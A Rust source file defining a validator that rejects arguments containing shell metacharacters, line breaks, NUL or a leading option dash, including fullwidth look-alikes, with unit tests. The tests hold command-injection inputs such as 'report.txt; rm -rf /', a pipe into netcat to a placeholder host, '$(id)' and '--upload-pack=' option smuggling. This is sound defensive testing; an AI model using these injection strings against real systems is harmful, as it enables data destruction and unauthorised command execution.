//! The `no_shell` argument check: text that could change what a shell command does.

use unicode_normalization::UnicodeNormalization;

/// What in `text` a shell would read as syntax (a separator, pipe, redirection, variable
/// or command substitution, line break or NUL) or a command as an option (a leading `-`),
/// named for a denial; `None` when nothing.
///
/// The text is read after NFKC, so a fullwidth `；` or a small `﹩` counts as `;` or `$`.
pub fn shell_metacharacter(text: &str) -> Option<String> {
    // A value a command line reads as an option (`--upload-pack=…`, `-oProxyCommand=…`).
    if text.trim_start().nfkc().next() == Some('-') {
        return Some("a leading `-`, which a command reads as an option".to_owned());
    }
    for original in text.chars() {
        // Each character on its own: NFKC never joins two of these into something else.
        for c in std::iter::once(original).nfkc() {
            let Some(what) = describe(c) else { continue };
            return Some(if c == original {
                what
            } else {
                format!("{what} (written as `{original}`)")
            });
        }
    }
    // `$(` and backticks are caught as `$` and `` ` `` above; `||` and `&&` as `|` and `&`.
    None
}

fn describe(c: char) -> Option<String> {
    match c {
        '\0' => Some("a NUL character".to_owned()),
        '\n' | '\r' | '\u{0085}' | '\u{2028}' | '\u{2029}' => Some("a line break".to_owned()),
        '`' => Some("a command substitution (a backtick)".to_owned()),
        ';' | '|' | '&' | '$' | '>' | '<' => Some(format!("a shell metacharacter `{c}`")),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::shell_metacharacter;

    #[test]
    fn a_leading_dash_is_an_option_and_a_dash_inside_is_not() {
        for option in [
            "--upload-pack=touch /tmp/x",
            "-oProxyCommand=id",
            " -e",
            "\u{FF0D}\u{FF0D}exec",
        ] {
            assert!(
                shell_metacharacter(option).is_some_and(|w| w.contains("option")),
                "{option}"
            );
        }
        for benign in ["feature/login-page", "v1.2.3", "db-1.example.com", "HEAD~1"] {
            assert_eq!(shell_metacharacter(benign), None, "{benign}");
        }
    }

    #[test]
    fn separators_pipes_redirections_and_substitutions_are_named() {
        let cases = [
            ("report.txt; rm -rf /", "a shell metacharacter `;`"),
            ("a | nc evil 80", "a shell metacharacter `|`"),
            ("a && b", "a shell metacharacter `&`"),
            ("a || b", "a shell metacharacter `|`"),
            ("$(id)", "a shell metacharacter `$`"),
            ("${HOME}", "a shell metacharacter `$`"),
            ("`id`", "a command substitution (a backtick)"),
            ("x > /etc/passwd", "a shell metacharacter `>`"),
            ("x < /etc/passwd", "a shell metacharacter `<`"),
            ("a\nb", "a line break"),
            ("a\rb", "a line break"),
            ("a\0b", "a NUL character"),
        ];
        for (text, expected) in cases {
            assert_eq!(
                shell_metacharacter(text).as_deref(),
                Some(expected),
                "{text:?}"
            );
        }
    }

    #[test]
    fn fullwidth_and_compatibility_forms_are_read_as_the_ascii_they_stand_for() {
        let found = shell_metacharacter("report.txt；id").unwrap();
        assert_eq!(found, "a shell metacharacter `;` (written as `；`)");
        for text in [
            "a｜b",
            "＄(id)",
            "a＆b",
            "x ＞ y",
            "x﹤y",
            "a\u{037e}b",
            "﹩x",
        ] {
            assert!(shell_metacharacter(text).is_some(), "{text:?}");
        }
    }

    #[test]
    fn ordinary_names_and_punctuation_pass() {
        for text in [
            "O'Brien",
            "a-b_c.txt",
            "50%",
            "Quarterly report (final), v2.pdf",
            "naïve café #3",
            "user@example.com",
            "",
        ] {
            assert_eq!(shell_metacharacter(text), None, "{text:?}");
        }
    }
}
